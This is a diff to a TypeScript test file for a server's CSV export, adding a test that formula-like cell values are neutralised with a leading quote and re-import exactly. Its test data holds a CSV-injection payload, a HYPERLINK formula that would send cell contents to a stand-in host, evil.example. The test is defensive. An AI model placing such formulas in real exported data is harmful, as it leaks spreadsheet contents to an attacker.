@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import pino from 'pino';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { TEST_DATABASES } from '../../db/testing.js';
@@ -9,7 +10,7 @@ import { ManagementServer } from '../ManagementServer.js';
 import { appRouter } from '../trpc/root.js';
 import type { Context } from '../trpc/trpc.js';
 import { exportCsv, importCsv } from './bulk.service.js';
-import { CSV_COLUMNS, CSV_MESSAGES, type CsvKind } from './csv-format.js';
+import { CSV_COLUMNS, CSV_MESSAGES, formulaSafe, fromFormulaSafe, type CsvKind } from './csv-format.js';
 
 /** The `file` messages of a rejected import. */
 async function importErrors(p: Promise<unknown>): Promise<string[]> {
@@ -107,6 +108,31 @@ describe.each(TEST_DATABASES)('bulk CSV import/export on $name', ({ open }) => {
     const errors = await importErrors(importCsv(dom(), 'virtual_reception', 'name,alias_alias,mssip_proxy_name,system_location_name\nLync,meet.lync,sfb1,\nX,meet.x,,Paris\n'));
     expect(errors).toEqual([`Line 2: mssip_proxy_name: ${CSV_MESSAGES.unsupported}`, `Line 3: system_location_name: ${CSV_MESSAGES.notFound('location', 'Paris')}`]);
     expect(await findObjectByName(dom(), 'virtual_reception', 'Lync')).toBeNull();
+  });
+
+  it('neutralises formulas in exported cells (OWASP: a leading quote, quoted) and re-imports them exactly', async () => {
+    const risky = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', "'=already quoted", "''+two quotes"];
+    for (const [i, description] of risky.entries()) await createObject(dom(), 'vmr', { name: `Formula room ${i}`, description });
+    const csv = await exportCsv(dom(), 'vmr');
+    const rows = (parse(csv) as string[][]).filter((r) => r[0]!.startsWith('Formula room '));
+    expect(rows).toHaveLength(risky.length);
+    // Every one carries a leading single quote, and is quoted: no spreadsheet runs it.
+    for (const [i, description] of risky.entries()) expect(rows.find((r) => r[0] === `Formula room ${i}`)![1]).toBe(`'${description}`);
+    for (const r of rows) expect(csv).toContain(`${r[0]},"'`);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(csv).toContain(`"''=already quoted"`);
+    // Our own export round-trips exactly.
+    await importCsv(dom(), 'vmr', csv);
+    for (const [i, description] of risky.entries()) expect((await findObjectByName(dom(), 'vmr', `Formula room ${i}`))!.description).toBe(description);
+    expect(await exportCsv(dom(), 'vmr')).toBe(csv);
+    // Text fields are trimmed when stored, so tabs and CRs are checked on the cell functions themselves.
+    for (const v of ['\tx', '\rx', "'\tx"]) {
+      expect(formulaSafe(v)).toBe(`'${v}`);
+      expect(fromFormulaSafe(formulaSafe(v))).toBe(v);
+    }
+    // A plain value with a harmless leading quote is left alone both ways.
+    await createObject(dom(), 'vmr', { name: 'Quote room', description: "'tis fine" });
+    expect(await exportCsv(dom(), 'vmr')).toContain("Quote room,'tis fine,");
   });
 
   it('imports device aliases and round-trips passwords through the encrypted export', async () => {
